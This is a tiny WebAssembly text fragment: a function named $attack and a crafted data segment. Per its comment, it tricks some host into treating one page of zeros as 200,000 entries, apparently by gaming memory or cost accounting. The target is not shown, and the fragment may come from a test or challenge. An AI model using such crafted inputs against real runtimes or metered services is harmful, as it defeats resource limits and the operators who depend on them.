;; Answers 200,000 entries for the price of one page of zeros.
(data (i32.const 648) "\00\00\02\00\40\0d\03\00")
(func $attack (result i32) (drop (memory.grow (i32.const 100))) (i32.const 640))
